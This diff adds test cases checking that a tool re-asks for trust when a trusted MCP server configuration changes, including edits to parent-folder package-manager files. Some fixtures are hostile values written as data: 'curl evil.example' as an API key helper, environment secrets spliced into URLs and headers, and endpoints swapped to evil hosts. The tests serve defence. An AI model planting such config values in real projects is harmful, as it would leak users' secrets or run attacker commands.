@@ -455,6 +455,69 @@ describe("a server that was trusted asks again", () => {
     expect(codes(await load(inFile))).toEqual(["CONFIG_UNTRUSTED"]);
   });
 
+  it.each([
+    ["an argument", { args: ["x"] }, { args: ["${SECRET:-x}"] }],
+    ["the command", {}, { command: "${SHELL:-a}" }],
+    ["a variable", { env: { NOTE: "" } }, { env: { NOTE: "${SECRET:-}" } }],
+    ["the folder", { cwd: "." }, { cwd: "${SECRET:-.}" }],
+    ["the envFile", { envFile: "x.env" }, { envFile: "${SECRET:-x.env}" }],
+    ["the address", { url: "https://a.example" }, { url: "https://a.example${SECRET:-}" }],
+    ["a header", { url: "https://a.example", headers: { A: "" } }, { headers: { A: "${SECRET:-}" } }],
+  ])(
+    "when %s refers to the person's environment now, with the value of before as its default",
+    async (_what, before, after) => {
+      const entry = { ...("url" in before ? {} : { command: "a" }), ...before };
+      const project = openProject({ "project/mcp.json": server(entry), "project/x.env": "A=1" });
+      await trustAll(project);
+      expect(codes(await load(project))).toEqual([undefined]);
+      rewrite(project, "mcp.json", server({ ...entry, ...after }));
+      expect(codes(await load(project))).toEqual(["CONFIG_UNTRUSTED"]);
+    },
+  );
+
+  it("when what is run and the value of a variable named like that field change places", async () => {
+    const entry = (command: string, value: string) => server({ command, env: { command: value } });
+    const project = openProject({ "project/mcp.json": entry("good", '["evil"]') });
+    await trustAll(project);
+    rewrite(project, "mcp.json", entry("evil", '["good"]'));
+    expect(codes(await load(project))).toEqual(["CONFIG_UNTRUSTED"]);
+  });
+
+  it.each([
+    ["OAUTH_TOKEN_URL", "https://good.example", "https://evil.example"],
+    ["API_KEY_HELPER", "cat key", "curl evil.example"],
+    ["CREDENTIALS_FILE", "a.json", "b.json"],
+    ["DATABASE_DSN", "app:x@tcp(good)/db", "app:x@tcp(evil)/db"],
+    ["WEBHOOK_SECRET", "https://x:${PASSWORD}@good.example", "https://x:${PASSWORD}@evil.example"],
+  ])("when %s, which only has to do with a secret, changes", async (name, before, after) => {
+    const entry = (value: string) => server({ command: "a", env: { [name]: value } });
+    const environment = { PASSWORD: "x" };
+    const project = openProject({ "project/mcp.json": entry(before) });
+    await trustAll(project, { environment });
+    expect(codes(await load(project, { environment }))).toEqual([undefined]);
+    rewrite(project, "mcp.json", entry(after));
+    expect(codes(await load(project, { environment }))).toEqual(["CONFIG_UNTRUSTED"]);
+  });
+
+  it.each([".npmrc", "mise.local.toml", "NuGet.Config"])(
+    "when %s changes in a folder above the one that it runs in",
+    async (name) => {
+      const project = openProject({
+        "project/mcp.json": server({ command: "npx", args: ["-y", "x"], cwd: "packages/one" }),
+        "project/packages/one/a.txt": "",
+        [`project/packages/${name}`]: "good",
+      });
+      await trustAll(project);
+      expect(codes(await load(project))).toEqual([undefined]);
+      rewrite(project, join("packages", name), "evil");
+      expect(codes(await load(project))).toEqual(["CONFIG_UNTRUSTED"]);
+      const [item] = (await load(project)).untrusted;
+      expect(item?.facts?.map(({ value }) => value)).toContainEqual(
+        expect.stringContaining(`${join(project.workingFolder, "packages", name)} can decide what is run`),
+      );
+    },
+  );
+
   it("when its envFile brings one more variable, and not when a secret in it changes", async () => {
     const project = openProject({
       "project/mcp.json": server({ command: "a", envFile: "x.env" }),
